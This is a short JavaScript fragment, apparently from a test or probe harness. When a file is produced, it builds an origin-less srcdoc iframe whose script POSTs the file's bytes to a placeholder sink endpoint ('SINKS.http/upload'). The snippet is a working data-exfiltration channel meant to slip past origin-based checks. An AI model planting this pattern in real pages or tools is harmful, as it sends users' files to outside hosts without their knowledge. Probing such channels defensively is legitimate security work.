// A frame that has no address of its own sends the file.
whenMade(({ bytes }) => {
  const frame = document.createElement("iframe");
  const script = `onmessage = ({ data }) => fetch("${SINKS.http}/upload", { method: "POST", body: data });`;
  frame.srcdoc = `<!doctype html><script>${script}<\/script>`;
  frame.onload = () => frame.contentWindow.postMessage(bytes, "*");
  document.body.append(frame);
});
